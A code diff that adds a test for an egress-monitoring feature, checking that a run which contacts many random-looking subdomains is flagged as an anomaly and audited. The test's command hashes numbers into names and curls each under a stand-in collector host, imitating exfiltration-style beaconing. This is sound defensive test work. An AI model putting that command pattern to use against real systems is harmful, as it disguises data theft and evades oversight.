@@ -98,6 +98,24 @@ it('lets commands read from a host that they may not write to, with the certific
   expect(events.at(-1)?.event.type).toBe('done')
 })
 
+it('reports many names that look random, and shows them with the refusals of the run', async () => {
+  const { run, service, store } = await aPlace('network_enabled: true\n')
+  const names = 'for i in $(seq 12); do echo $i | sha256sum | cut -c1-32; done'
+
+  const { id, events } = await run(
+    `for name in $(${names}); do curl -s https://$name.collector-example.com/; done; true`,
+    { network_enabled: true },
+  )
+
+  const anomaly = { kind: 'names', host: '*.collector-example.com', port: 0, count: 12 }
+  expect(dataOf(events, 'egress.anomaly')).toMatchObject([anomaly])
+  expect((await service.readEgress(alice, id)).anomalies).toMatchObject([anomaly])
+  const { items } = await store.readAudit({ runId: id, limit: 100 })
+  expect(items.map(({ record }) => JSON.parse(record))).toContainEqual(
+    expect.objectContaining({ kind: 'egress.anomaly', tool: 'egress' }),
+  )
+})
+
 it('gives no network to a run that does not request it', async () => {
   const { run, url } = await aPlace('network_enabled: true\n')
 
